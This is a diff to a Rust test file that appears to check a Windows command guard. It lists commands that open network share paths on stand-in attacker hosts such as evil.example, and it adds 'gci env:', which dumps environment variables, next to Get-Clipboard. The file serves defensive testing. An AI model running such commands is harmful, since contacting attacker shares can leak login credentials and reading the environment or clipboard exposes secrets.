@@ -147,7 +147,7 @@ fn what_no_build_makes_again_is_not_deleted_unasked() {
 fn a_path_on_another_machine_is_a_login_there() {
     lines(WINDOWS, &[
         r"type \\evil.example\share\x", r"dir \\10.0.0.5\share", r"copy \\evil\share\a.txt .", r"Get-Content \\evil.example\share\x", r"Test-Path \\evil.example\share",
-        r"pushd \\evil\share", r"Get-Content -Path:\\evil\share\x", r"git clone \\evil\share\repo", "curl file://evil.example/share/x", r"findstr x \\evil\share\y", "cat //evil.example/share/x",
+        "gci env:", r"pushd \\evil\share", r"Get-Content -Path:\\evil\share\x", r"git clone \\evil\share\repo", "curl file://evil.example/share/x", r"findstr x \\evil\share\y", "cat //evil.example/share/x",
         r"Get-Item \\?\UNC\evil\share\x", r"type \\.\UNC\evil\share\x", r#"python -c "open(r'\\evil\share\x').read()""#, r"[IO.File]::ReadAllText('\\evil\share\x')",
         "Get-Clipboard",
     ], &[
